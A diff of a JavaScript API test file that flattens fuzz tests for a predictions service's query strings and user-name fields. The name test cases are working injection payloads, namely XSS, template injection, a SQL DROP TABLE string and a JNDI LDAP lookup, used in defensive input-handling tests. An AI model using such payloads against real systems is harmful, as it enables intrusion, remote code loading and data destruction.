@@ -32,28 +32,24 @@ describe('a prediction id', () => {
   });
 });
 
-describe('a query', () => {
-  it.each(['%E0%A4%A', 'limit=%ff', 'limit=1&limit=abc', '__proto__=1', 'a[b]=1', '?????', '&&=&'])(
-    'of %s returns 200 or 400',
-    async (query) => {
-      const path = `/api/predictions/history/?${query}`;
-      const { status } = await api.call('list-predictions', { token: user.token, path });
-      expect([200, 400]).toContain(status);
-    },
-  );
-});
+it.each(['%E0%A4%A', 'limit=%ff', 'limit=1&limit=abc', '__proto__=1', 'a[b]=1', '?????', '&&=&'])(
+  'a query of %s returns 200 or 400',
+  async (query) => {
+    const path = `/api/predictions/history/?${query}`;
+    const { status } = await api.call('list-predictions', { token: user.token, path });
+    expect([200, 400]).toContain(status);
+  },
+);
 
-describe('a name', () => {
-  it.each([
-    '<script>alert(1)</script>',
-    '"><img src=x onerror=alert(1)>',
-    '{{constructor.constructor("alert(1)")()}}',
-    "Robert'); DROP TABLE premia;--",
-    '\u0024{jndi:ldap://example.com/a}',
-    'محمد',
-    '👩‍👩‍👧',
-  ])('is stored and returned unchanged: %s', async (name) => {
-    const { token } = await api.register({ first_name: name, last_name: name });
-    expect((await api.readAccount(token)).profile).toMatchObject({ first_name: name, last_name: name });
-  });
+it.each([
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  '{{constructor.constructor("alert(1)")()}}',
+  "Robert'); DROP TABLE premia;--",
+  '\u0024{jndi:ldap://example.com/a}',
+  'محمد',
+  '👩‍👩‍👧',
+])('a name is stored and returned unchanged: %s', async (name) => {
+  const { token } = await api.register({ first_name: name, last_name: name });
+  expect((await api.readAccount(token)).profile).toMatchObject({ first_name: name, last_name: name });
 });
